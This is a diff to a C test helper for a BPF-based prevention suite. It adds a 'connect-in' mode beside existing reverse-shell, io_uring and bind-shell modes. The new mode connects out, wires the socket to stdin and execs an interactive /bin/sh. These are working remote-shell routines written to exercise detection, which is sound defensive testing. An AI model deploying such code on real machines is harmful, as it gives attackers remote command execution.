@@ -2,6 +2,8 @@
  * (tests/bpf/test_prevention.py). Traffic goes only to the addresses the test passes (a
  * network-namespace test host). Modes:
  *   connect IP PORT        connect(), dup2 onto 0-2, exec /bin/sh -i       (reverse shell)
+ *   connect-in IP PORT     connect(), dup2 onto 0 only, exec /bin/sh -i (its output stays on
+ *                          the caller's stdout: a shell reading commands from the network)
  *   uring IP PORT          the connect through io_uring (IORING_OP_CONNECT), prctl(PR_SET_NAME),
  *                          dup2 onto 0-2, exec /bin/sh -i
  *   bind PORT              listen on every interface, accept, dup2 the accepted socket onto
@@ -126,6 +128,14 @@ int main(int argc, char **argv)
         if (connect(s, (struct sockaddr *)&sa, sizeof(sa)))
             return fail("connect");
         shell_on(s);
+    } else if (!strcmp(mode, "connect-in") && argc == 4) {
+        struct sockaddr_in sa = addr_of(argv[2], argv[3]);
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        if (connect(s, (struct sockaddr *)&sa, sizeof(sa)))
+            return fail("connect");
+        dup2(s, 0);
+        execl("/bin/sh", "sh", "-i", (char *)0);
+        return fail("exec");
     } else if (!strcmp(mode, "uring") && argc == 4) {
         static struct sockaddr_in sa;
         sa = addr_of(argv[2], argv[3]);
